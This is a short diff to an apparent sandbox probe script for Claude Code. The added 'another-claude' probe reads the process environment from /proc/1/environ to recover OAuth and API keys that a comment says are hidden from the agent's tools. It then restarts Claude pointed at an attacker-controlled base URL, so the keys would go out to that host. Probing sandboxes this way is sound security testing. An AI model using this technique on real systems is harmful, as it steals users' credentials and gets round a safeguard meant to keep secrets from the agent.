@@ -89,5 +89,12 @@ sent-away() {
 
 probe another-claude "starts Claude Code again, turned to a server of its own"
 another-claude() {
+  local variable
+  # Claude Code keeps some of them from its tools, but not from whoever reads its environment.
+  while IFS= read -r -d '' variable; do
+    case $variable in
+      CLAUDE_CODE_OAUTH_TOKEN=* | ANTHROPIC_API_KEY=*) export "${variable?}" ;;
+    esac
+  done </proc/1/environ
   ANTHROPIC_BASE_URL="http://$ATTACKER" CLAUDE_CODE_MAX_RETRIES=0 HOME=/tmp/another timeout 15 claude -p 'another one' </dev/null 2>&1 | tail -3
 }
